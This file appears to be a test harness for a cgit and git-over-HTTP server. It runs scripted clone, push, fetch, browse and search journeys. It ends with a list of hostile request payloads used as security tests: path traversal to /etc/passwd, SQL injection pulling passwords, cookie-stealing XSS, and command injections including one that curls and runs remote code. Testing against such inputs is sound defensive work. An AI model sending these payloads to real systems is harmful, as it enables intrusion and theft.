// cgit and git over HTTP: clone, push and fetch by git, browsing and search.
import { execFile, spawn } from 'node:child_process'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import http from 'node:http'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'
import { settled } from './state.mjs'
import { go, languages, markdown, pdf, png, python, random, script, shell, sql } from './texts.mjs'

// cgi answers requests by a program (RFC 3875).
function cgi(program, args, variables) {
  return (req, res, path) => {
    const query = req.url.split('?')[1] ?? ''
    const env = { ...process.env, ...variables, GATEWAY_INTERFACE: 'CGI/1.1', SERVER_PROTOCOL: 'HTTP/1.1', SERVER_NAME: '127.0.0.1', REMOTE_ADDR: '127.0.0.1',
      REMOTE_USER: 'jane', REQUEST_METHOD: req.method, SCRIPT_NAME: '', PATH_INFO: decodeURIComponent(path), QUERY_STRING: query, HTTP_HOST: req.headers.host }
    for (const [variable, header] of Object.entries({ CONTENT_TYPE: 'content-type', CONTENT_LENGTH: 'content-length', HTTP_CONTENT_ENCODING: 'content-encoding', GIT_PROTOCOL: 'git-protocol' })) {
      if (req.headers[header]) env[variable] = req.headers[header]
    }
    const child = spawn(program, args, { env, stdio: ['pipe', 'pipe', 'ignore'] })
    child.stdin.on('error', () => {}) // it may not read to the end
    req.pipe(child.stdin)
    let head = Buffer.alloc(0)
    const start = (chunk) => {
      head = Buffer.concat([head, chunk])
      const end = /\r?\n\r?\n/.exec(head.toString('latin1'))
      if (!end) return
      child.stdout.off('data', start)
      let status = 200
      for (const line of head.toString('latin1', 0, end.index).split(/\r?\n/)) {
        const [name, value] = line.split(/: */s)
        if (name.toLowerCase() === 'status') status = parseInt(value)
        else res.appendHeader(name, line.slice(name.length + 1).trim())
      }
      res.writeHead(status)
      res.write(head.subarray(end.index + end[0].length))
      child.stdout.pipe(res)
    }
    child.stdout.on('data', start)
    child.on('close', () => res.headersSent || res.writeHead(500).end())
    res.on('close', () => child.kill())
  }
}

const identity = { GIT_AUTHOR_NAME: "Jane O'Brien", GIT_AUTHOR_EMAIL: 'jane@example.org', GIT_COMMITTER_NAME: 'Zoë', GIT_COMMITTER_EMAIL: 'zoe@example.org',
  GIT_AUTHOR_DATE: '2026-03-01T08:00:00Z', GIT_COMMITTER_DATE: '2026-03-01T08:00:00Z' }

const git = async (cwd, ...args) => (await promisify(execFile)('git', args, { cwd, env: { ...process.env, ...identity, GIT_CONFIG_GLOBAL: '/dev/null', GIT_TERMINAL_PROMPT: '0' }, maxBuffer: 64 << 20 })).stdout

async function commit(dir, message, files) {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(dir, name)), { recursive: true })
    await writeFile(join(dir, name), content)
  }
  await git(dir, 'add', '.')
  await git(dir, 'commit', '-q', '-m', message)
}

async function push(user) {
  const dir = join(user.dir, 'jane')
  await git(user.dir, 'clone', '-q', `${user.origin}/notes.git`, dir)
  await git(dir, 'switch', '-q', '-c', 'main')
  await commit(dir, `docs: say it in eight languages\n\n${languages.de}`, Object.fromEntries(Object.entries(languages).map(([code, text]) => [`docs/${code}.txt`, text])))
  await commit(dir, "all: add what isn't text", { 'photo.png': png, 'report (final).pdf': pdf, 'noise.bin': random(3_000_000) })
  await git(dir, 'push', '-q', 'origin', 'main')
}

async function code(user) {
  const dir = join(user.dir, 'jane')
  await git(dir, 'switch', '-q', '-c', "feature/it's-new")
  await commit(dir, `page: don't alert("x") in <script>\n\n${shell}`, { 'README.md': markdown, 'www/page.html': script, 'db/report.sql': sql, 'bin/setup.sh': shell, 'tool.py': python, 'main.go': go })
  await git(dir, 'tag', '-a', 'v1.0', '-m', markdown)
  await git(dir, '-c', 'http.postBuffer=1024', 'push', '-q', '--follow-tags', 'origin', "feature/it's-new") // in chunks
  await git(dir, '-c', 'core.compression=0', 'push', '-q', 'origin', "feature/it's-new:raw")
}

async function fetchAll(user) {
  const dir = join(user.dir, 'zoe')
  await git(user.dir, 'clone', '-q', '--depth', '1', '--branch', 'main', `${user.origin}/notes.git`, dir)
  await git(dir, 'fetch', '-q', '--unshallow', '--tags', 'origin', '+refs/heads/*:refs/remotes/origin/*')
  await git(dir, 'checkout', '-q', 'v1.0')
  if (!(await readFile(join(dir, 'noise.bin'))).equals(random(3_000_000))) throw new Error('the fetched file differs')
  await git(dir, 'switch', '-q', 'main')
  await git(dir, 'merge', '-q', '--no-ff', '-m', "Merge branch 'feature/it's-new'", 'v1.0')
  await git(dir, 'push', '-q', 'origin', 'main')
  await git(dir, 'push', '-q', 'origin', '--delete', 'raw')
  await git(dir, 'archive', '-o', join(user.dir, 'notes.zip'), 'main')
}

async function browse(user) {
  const page = await user.page()
  await page.goto('/')
  await page.getByRole('link', { name: 'notes.git' }).click()
  await page.getByRole('link', { name: 'log', exact: true }).click()
  await page.getByText("all: add what isn't text").click()
  await page.getByText('noise.bin').first().waitFor()
  for (const path of ['tree/www/page.html', 'blame/README.md', "diff/?h=feature/it's-new", 'tree/docs?id=main', 'log/README.md?follow=1', "refs/", 'stats/?period=y&ofs=5', 'plain/report%20(final).pdf']) {
    await user.fetch(`/notes.git/${path}`)
  }
}

async function search(user) {
  for (const [type, words] of [['grep', "isn't text"], ['grep', 'select into main'], ['author', "O'Brien"], ['range', 'main..v1.0'], ['grep', 'List<String> -- isn\'t']]) {
    await user.fetch(`/notes.git/log/?${new URLSearchParams({ qt: type, q: words })}`)
  }
}

export default {
  name: 'cgit',
  needs: { git: 'git', '/usr/lib/cgit/cgit.cgi': 'cgit' },

  async start(stage) {
    const repository = join(stage.dir, 'notes.git')
    await git(stage.dir, 'init', '-q', '--bare', '--initial-branch=main', repository)
    await git(repository, 'config', 'http.receivepack', 'true')
    const config = join(stage.dir, 'cgitrc')
    await writeFile(config, `virtual-root=/\nenable-blame=1\nenable-commit-graph=1\nenable-follow-links=1\nmax-stats=year\nscan-path=${stage.dir}\n`)
    const transfer = cgi('git', ['http-backend'], { GIT_PROJECT_ROOT: stage.dir, GIT_HTTP_EXPORT_ALL: '1' })
    const pages = cgi('/usr/lib/cgit/cgit.cgi', [], { CGIT_CONFIG: config })
    const server = http.createServer((req, res) => {
      const path = req.url.split('?')[0]
      const answer = /\/(info\/refs|git-(upload|receive)-pack)$/.test(path) ? transfer : pages
      answer(req, res, path)
    })
    const port = await stage.serve(server)
    return { port, repository }
  },

  journeys: [
    { name: 'clone, commit, push', walk: push },
    { name: 'code pushed in chunks, uncompressed', walk: code, hard: true },
    { name: 'shallow clone, fetch, merge, delete', walk: fetchAll },
    { name: 'the pages', walk: browse },
    { name: 'search', walk: search, hard: true },
  ],

  async state(user) {
    const refs = await git(user.app.repository, 'for-each-ref')
    await git(user.app.repository, 'fsck', '--strict')
    return settled(refs)
  },

  attacks: [
    { target: '/notes.git/plain/..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { target: `/notes.git/log/?qt=grep&q=${encodeURIComponent("' UNION SELECT name, password FROM users-- ")}` },
    { target: `/notes.git/tree/?h=${encodeURIComponent('"><script>alert(document.cookie)</script>')}` },
    { target: `/notes.git/info/refs?service=${encodeURIComponent('git-upload-pack; cat /etc/passwd')}` },
    { target: `/notes.git/snapshot/${encodeURIComponent('$(curl http://203.0.113.7/x|sh)')}.tar.gz` },
  ],
}
